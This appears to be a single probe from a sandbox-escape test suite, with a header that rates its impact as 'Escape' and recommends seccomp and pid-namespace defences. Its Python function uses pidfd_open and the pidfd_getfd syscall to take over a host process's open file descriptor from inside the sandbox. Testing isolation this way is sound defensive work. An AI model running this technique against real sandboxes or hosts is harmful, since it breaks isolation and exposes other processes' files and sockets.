# title: Take a descriptor from another process
# tries: Takes over an open descriptor of a process of the host by pidfd_getfd: a socket or file that it has open is then open here.
# impact: Escape
# proof: returned
# host: run
# advice: Refuse pidfd_open and pidfd_getfd by seccomp, and run the code in a pid namespace of its own.


def attempt(host):
    import ctypes
    import os

    pidfd_getfd = ctypes.c_long(438)
    process = os.pidfd_open(host["pid"])
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        stolen = libc.syscall(pidfd_getfd, process, 0, 0)
        if stolen == -1:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        kind = os.fstat(stolen).st_mode
        os.close(stolen)
        return f"its standard input is open here, mode {kind:o}"
    finally:
        os.close(process)
